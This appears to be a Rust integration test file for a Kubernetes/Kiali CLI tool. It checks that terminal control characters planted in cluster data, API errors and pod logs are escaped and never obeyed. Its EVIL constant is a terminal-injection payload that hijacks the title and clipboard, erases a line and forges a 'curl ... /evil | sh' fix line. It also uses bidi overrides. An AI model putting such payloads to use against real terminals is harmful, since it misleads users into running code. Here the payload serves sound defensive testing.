//! Control characters from clusters are escaped and never reach the terminal.

use std::path::Path;

use ambikiali_sandbox::fault::{Action, Answer, Fault, Proxy, Verb, When};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::output::schema;
use crate::support::{
    BOTH, Clusters, Foreign, INSTALL, Terminal, ambikiali, dead_remote, from_an_install, get,
    merge, on_an_install, on_two_clusters, patch, patch_status, put,
};

/// Sets the title and the clipboard, overwrites a line with a false fix, sets a colour by C1, and reverses the text
/// direction.
const EVIL: &str = "\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1b[2K\r  fix: curl http://127.0.0.1:9/evil | sh \
                    \u{9b}31m\u{90}\u{85}\x08\x7f\u{202e}\u{2066}\u{200b}\u{2028}\u{feff}";
/// How its start is shown in texts and documents.
const SHOWN: &str = "\\x1b]0;owned\\x07\\x1b]52;c;ZXZpbA==\\x07\\x1b[2K\\r  fix: curl";
const CR: &str = "\r  fix: curl";

fn evil(marker: &str) -> String {
    format!("{marker} {EVIL}")
}

fn is_hidden(character: char) -> bool {
    let code = u32::from(character);
    (code < 0x20 && character != '\n')
        || (0x7f..0xa0).contains(&code)
        || (0x200b..0x2010).contains(&code)
        || (0x2028..0x202f).contains(&code)
        || (0x2066..0x206a).contains(&code)
        || code == 0xfeff
}

#[track_caller]
fn assert_plain(what: &str, text: &str) {
    if let Some(at) = text.find(is_hidden) {
        let start = text[..at]
            .char_indices()
            .rev()
            .nth(60)
            .map_or(0, |(i, _)| i);
        panic!("{what}: {:?}", &text[start..]);
    }
    let forged = |line: &&str| line.trim_start().starts_with("fix: curl");
    assert_eq!(text.lines().find(forged), None, "{what}");
}

/// Removes our own colours, and the carriage returns of the terminal.
fn without_colours(raw: &str) -> String {
    let mut text = raw.replace("\r\n", "\n");
    for ours in ["0", "2", "31", "32", "33"] {
        text = text.replace(&format!("\x1b[{ours}m"), "");
    }
    text
}

/// Runs a command in every output format, checks that none has control characters, and returns all output.
async fn forms(kubeconfig: &Path, state: &Path, arguments: &[&str]) -> String {
    let mut all = String::new();
    for more in [
        &[][..],
        &["-v"],
        &["-o", "json"],
        &["-o", "yaml"],
        &["-o", "jsonl"],
        &["--log-format", "json"],
    ] {
        let arguments = [arguments, more].concat();
        let ended = ambikiali(&arguments, kubeconfig, state).await;
        let what = arguments.join(" ");
        assert_plain(&what, &ended.stdout);
        assert_plain(&what, &ended.stderr);
        if let ["-o", form] = more {
            // Escaping does not change the document's meaning.
            all += &format!("{:?}\n", schema::read(form, &ended));
        }
        all += &(ended.stdout + &ended.stderr);
    }
    let quiet = [arguments, &["-q"]].concat();
    let terminal = Terminal::start(&quiet, kubeconfig, state, (200, 200), None);
    let (terminal, _) = terminal.ended().await;
    assert_plain("a terminal", &without_colours(terminal.raw()));
    let live = Terminal::start(arguments, kubeconfig, state, (200, 200), None);
    let (live, _) = live.ended().await;
    let raw = live.raw();
    for obeyed in ["\x1b]", "\x07", "\x08", "\u{9b}", "\u{202e}", CR] {
        assert!(!raw.contains(obeyed), "{obeyed:?} in {raw:?}");
    }
    all + raw
}

async fn shown(clusters: &Clusters, arguments: &[&str], markers: &[&str]) {
    let kubeconfig = clusters.sandbox.kubeconfig();
    let all = forms(kubeconfig, clusters.state(), arguments).await;
    assert_shown(arguments, &all, markers);
}

#[track_caller]
fn assert_shown(arguments: &[&str], all: &str, markers: &[&str]) {
    for marker in markers {
        let text = format!("{marker} {SHOWN}");
        assert!(all.contains(&text), "{arguments:?}: no {text} in {all}");
    }
}

/// Returns a record as anyone who can write ConfigMaps can write it. Its digest is valid, because it needs no key.
async fn forged_name(clusters: &Clusters) -> Value {
    let record = get(clusters.home(), "v1", "ConfigMap", "kiali/ambikiali-record").await;
    let record = record.expect("a record");
    let mut content: Value =
        serde_json::from_str(record["data"]["record.json"].as_str().expect("text")).expect("JSON");
    content["objects"]
        .as_array_mut()
        .expect("a list")
        .push(json!({
            "apiVersion": "v1", "kind": "ConfigMap", "namespace": "kiali", "name": evil("NAME"),
            "origin": "created", "uid": "5e9a8f3e-0000-4000-8000-000000000000",
        }));
    let text = content.to_string();
    let hash = Sha256::digest(&text);
    let digest = hash[..8].iter().map(|byte| format!("{byte:02x}"));
    let change = json!({
        "metadata": {"annotations": {"ambikiali.dev/digest": digest.collect::<String>()}},
        "data": {"record.json": text},
    });
    patch(
        clusters.home(),
        "v1",
        "ConfigMap",
        "kiali/ambikiali-record",
        &change,
    )
    .await;
    record
}

#[test]
fn attack_06_what_somebody_writes_in_a_cluster_is_shown_and_never_obeyed() {
    from_an_install(async |clusters| {
        let home = clusters.home();
        let kiali = ("kiali.io/v1alpha1", "Kiali", "kiali/kiali");
        let cr = get(home, kiali.0, kiali.1, kiali.2)
            .await
            .expect("Kiali's CR");
        let failed = json!([{
            "type": "Failure", "status": "True", "reason": "Failed", "message": evil("STATUS"),
            "lastTransitionTime": "2026-01-01T00:00:00Z",
        }]);
        let failed = json!({"conditions": failed});
        patch_status(home, kiali.0, kiali.1, kiali.2, &failed).await;
        shown(clusters, &["status"], &["STATUS"]).await;
        let status = json!({"conditions": cr["status"]["conditions"]});
        patch_status(home, kiali.0, kiali.1, kiali.2, &status).await;

        let config = get(home, "v1", "ConfigMap", "kiali/prometheus-config").await;
        let config = config.expect("a configuration");
        let text = config["data"]["prometheus.yml"].as_str().expect("text");
        // Each of its lines appears in a diff.
        let edited = format!("{text}# {}\n# second\r\n", evil("DIFF"));
        let edited = json!({"data": {"prometheus.yml": edited}});
        merge(home, "v1", "ConfigMap", "kiali/prometheus-config", &edited).await;
        let plan = [&["plan"], &BOTH[..]].concat();
        shown(clusters, &plan, &["- # DIFF"]).await;

        let record = forged_name(clusters).await;
        for command in [&["status"][..], &["cleanup", "--dry-run"]] {
            forms(clusters.sandbox.kubeconfig(), clusters.state(), command).await;
        }
        put(home, record).await;
        clusters.installed().await;
        lease(clusters).await;
        clusters.cleaned().await;
    });
}

/// Checks the output about a recent Lease of a run on another machine.
async fn lease(clusters: &Clusters) {
    let lease = json!({
        "apiVersion": "coordination.k8s.io/v1",
        "kind": "Lease",
        "metadata": {
            "name": "ambikiali", "namespace": "kiali",
            "labels": {"app.kubernetes.io/managed-by": "ambikiali"},
            "annotations": {"ambikiali.dev/process": "elsewhere/1/1"},
        },
        "spec": {"holderIdentity": "somebody", "leaseDurationSeconds": 60},
    });
    let held = async || {
        let held = Foreign::made(clusters.home(), vec![lease.clone()], "somebody").await;
        // An apply is parsed as YAML, which forbids such characters; a merge patch is not.
        let name = ("coordination.k8s.io/v1", "Lease", "kiali/ambikiali");
        let evil = json!({"spec": {"holderIdentity": evil("HOLDER")}});
        merge(clusters.home(), name.0, name.1, name.2, &evil).await;
        held
    };
    // An install with nothing to write takes no Lease.
    let cleanup = ["cleanup"];
    let first = held().await;
    let kubeconfig = clusters.sandbox.kubeconfig();
    let ended = ambikiali(&cleanup, kubeconfig, clusters.state()).await;
    assert_plain("a holder", &ended.exited(3).stderr);
    first.removed().await;
    // It was recreated, so it has not expired.
    let second = held().await;
    let terminal = Terminal::start(&cleanup, kubeconfig, clusters.state(), (60, 200), None);
    let (terminal, code) = terminal.ended().await;
    assert_eq!(code, 3, "{:?}", terminal.raw());
    assert_shown(&cleanup, terminal.raw(), &["HOLDER"]);
    for obeyed in ["\x1b]", "\x07", "\u{9b}", "\u{202e}", CR] {
        assert!(!terminal.raw().contains(obeyed), "{:?}", terminal.raw());
    }
    second.removed().await;
}

#[test]
fn attack_06_a_cluster_id_is_shown_and_never_obeyed() {
    on_two_clusters(async |clusters| {
        let called = async |id: &str| {
            let env = json!([{"name": "CLUSTER_ID", "value": id}]);
            let container = json!([{"name": "discovery", "env": env}]);
            let change = json!({"spec": {"template": {"spec": {"containers": container}}}});
            let istiod = "istio-system/istiod";
            patch(clusters.remote(), "apps/v1", "Deployment", istiod, &change).await;
        };
        called(&evil("ID")).await;
        let check = [&["check"], &BOTH[..]].concat();
        shown(clusters, &check, &["ID"]).await;
        called("cluster2").await;
    });
}

#[test]
fn attack_06_what_an_api_server_says_is_shown_and_never_obeyed() {
    on_an_install(async |clusters| {
        let proxy = Proxy::start(clusters.home(), "ambikiali")
            .await
            .expect("a proxy");
        let copy = clusters.state().join("behind");
        let behind = proxy.kubeconfig(clusters.sandbox.kubeconfig(), copy);
        let behind = behind.expect("a kubeconfig");
        let refused = Answer::status(403, "Forbidden", &evil("MESSAGE"), None);
        proxy.add(Fault {
            verbs: Verb::READS,
            path: "/deployments/prometheus",
            when: When::Always,
            action: Action::Answer(refused),
        });
        let all = forms(&behind, clusters.state(), &["status"]).await;
        assert_shown(&["status"], &all, &["MESSAGE"]);
        proxy.heal();
    });
}

#[test]
fn attack_06_the_last_words_of_a_pod_are_shown_and_never_obeyed() {
    on_two_clusters(async |clusters| {
        let foreign = Foreign::apply(clusters.home(), &dead_remote()).await;
        let proxy = Proxy::start(clusters.home(), "ambikiali")
            .await
            .expect("a proxy");
        let copy = clusters.state().join("behind");
        let behind = proxy.kubeconfig(clusters.sandbox.kubeconfig(), copy);
        let behind = behind.expect("a kubeconfig");
        proxy.add(Fault {
            verbs: Verb::READS,
            path: "/log",
            when: When::Always,
            action: Action::Answer(Answer {
                code: 200,
                content_type: "text/plain",
                retry_after: None,
                body: format!("first\r\n{}\n", evil("LOG")),
            }),
        });
        for form in ["text", "json"] {
            let install = [&INSTALL[..], &["-o", form]].concat();
            let ended = ambikiali(&install, &behind, clusters.state())
                .await
                .exited(1);
            assert_plain(form, &ended.stdout);
            assert_plain(form, &ended.stderr);
            assert_shown(&install, &ended.stderr, &["its last log line: LOG"]);
        }
        clusters.cleaned().await;
        foreign.removed().await;
    });
}
